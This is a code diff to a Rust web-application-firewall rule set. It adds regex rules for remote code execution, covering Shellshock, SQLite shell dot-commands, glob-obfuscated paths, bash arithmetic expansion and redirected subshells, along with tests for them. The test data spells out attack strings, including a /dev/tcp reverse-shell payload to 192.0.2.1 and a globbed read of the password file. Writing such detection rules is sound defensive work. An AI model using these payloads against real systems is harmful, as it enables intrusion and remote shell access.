@@ -391,6 +391,27 @@ const VALUE_RULES: &[Rule] = &[
         pattern: r"\b(?:invoke-(?:webrequest|expression|command|item|restmethod|wmimethod)|iex|iwr|iwmi|start-process|new-object\s+net\.webclient|downloadstring|downloadfile|set-executionpolicy)\b[\s(]",
     },
     Rule {
+        // An SQLite shell dot-command after a statement (CRS 932210): `;.shell nc …`,
+        // `;⏎.databases`.
+        id: "rce-231",
+        class: Class::Rce,
+        pattern: r#"[;\n]\s*\.[/"']*(?:shell|system|sh|databases|tables|schema|dump|import|output|once|load|open|read|dbinfo)\b"#,
+    },
+    Rule {
+        // A path segment that is a shell glob of a name (`cat /et*/*wd`, `/bin/ca?/`, CRS
+        // 932190): the shell finds the file the filter was told the name of.
+        id: "rce-233",
+        class: Class::Rce,
+        pattern: r"/(?:[a-z]+[*?]+[a-z]*|[*?]+[a-z]+)/",
+    },
+    Rule {
+        // Bash's old arithmetic expansion (`$[2+2]`, `$[]`; CRS 932130). A JSONPath index
+        // (`$[0]`) has no operator.
+        id: "rce-234",
+        class: Class::Rce,
+        pattern: r"\$\[\s*(?:[a-z0-9_]+\s*[-+*/%]\s*[a-z0-9_]+\s*)?\]",
+    },
+    Rule {
         id: "lfi-120",
         class: Class::Lfi,
         pattern: r"(?:^|[^a-z0-9._-])/(?:etc|proc|sys|root|boot|dev|tmp)/[a-z0-9_.-]|0x(?:2e|2f|5c)0x(?:2e|2f|5c)|\.(?:sql|bak)\.(?:zip|gz|tar|7z)$|/var/(?:log|run|lib|spool|mail)/|\.\.;|(?:^|/)\.\.(?:\s|%00)",
@@ -496,6 +517,19 @@ const BRACE_RULES: &[Rule] = &[Rule {
 /// [`VALUE_RULES`] because their word lists make the lazy DFA's states costly to build (a
 /// value seen for the first time pays for them), and most values hold no parenthesis.
 const CALL_RULES: &[Rule] = &[
+    Rule {
+        // Shellshock: a value that defines a bash function (CRS 932170, 932171). Bash before
+        // 4.3 ran what followed when it imported such a value from the environment.
+        id: "rce-230",
+        class: Class::Rce,
+        pattern: r"^\s*\(\s*\)\s*\{",
+    },
+    Rule {
+        // A subshell whose input or output is redirected (`(sh)0>$d/tcp/…`, CRS 932230).
+        id: "rce-232",
+        class: Class::Rce,
+        pattern: r"\(\s*(?:ba|da|z|k|c|tc)?sh\s*\)\s*[0-9]*[<>]",
+    },
     Rule {
         id: "php-130",
         class: Class::Php,
@@ -1973,7 +2007,7 @@ mod tests {
             .unwrap();
         let prefixed = &compiled().values;
         assert!(
-            prefixed.unprefixed_rules.len() < VALUE_RULES.len() / 2,
+            prefixed.unprefixed_rules.len() * 2 <= VALUE_RULES.len(),
             "most rules are gated: {:?}",
             prefixed.unprefixed_rules
         );
@@ -2032,6 +2066,16 @@ mod tests {
     /// One attack of each kind, and the class that must find it.
     const ATTACKS: &[(&str, &str)] = &[
         ("1' OR '1'='1", "sqli"),
+        ("() { :; }; echo vulnerable", "rce"),
+        ("() {", "rce"),
+        ("1;.sh whoami", "rce"),
+        ("x;\n.databases", "rce"),
+        ("1;.\\\"shell whoami", "rce"),
+        ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", "rce"),
+        ("cat /et*/*wd", "rce"),
+        ("/bin/ca?/x", "rce"),
+        ("$[1*3]", "rce"),
+        ("$[]", "rce"),
         ("aaa%0aGET+/+HTTP/1.1", "protocol"),
         ("GET%20http%3A%2F%2Fwww.foo.bar%20HTTP%2F1.2", "protocol"),
         ("unix:AAAAAAAAA|http://coreruleset.org/", "protocol"),
@@ -2552,6 +2596,15 @@ mod tests {
     #[test]
     fn ordinary_values_pass() {
         for raw in [
+            // Near the shapes of rce-230 … rce-234.
+            "call me () {later}",
+            "see note; .5 mg more",
+            "(sh) shortness",
+            "/* comment */",
+            "https://example.org/search?q=a/b",
+            "twice/day*",
+            "$[0]",
+            "$.entry[0].resource",
             "p-001",
             "Patient/p-001",
             "2026-04-10",
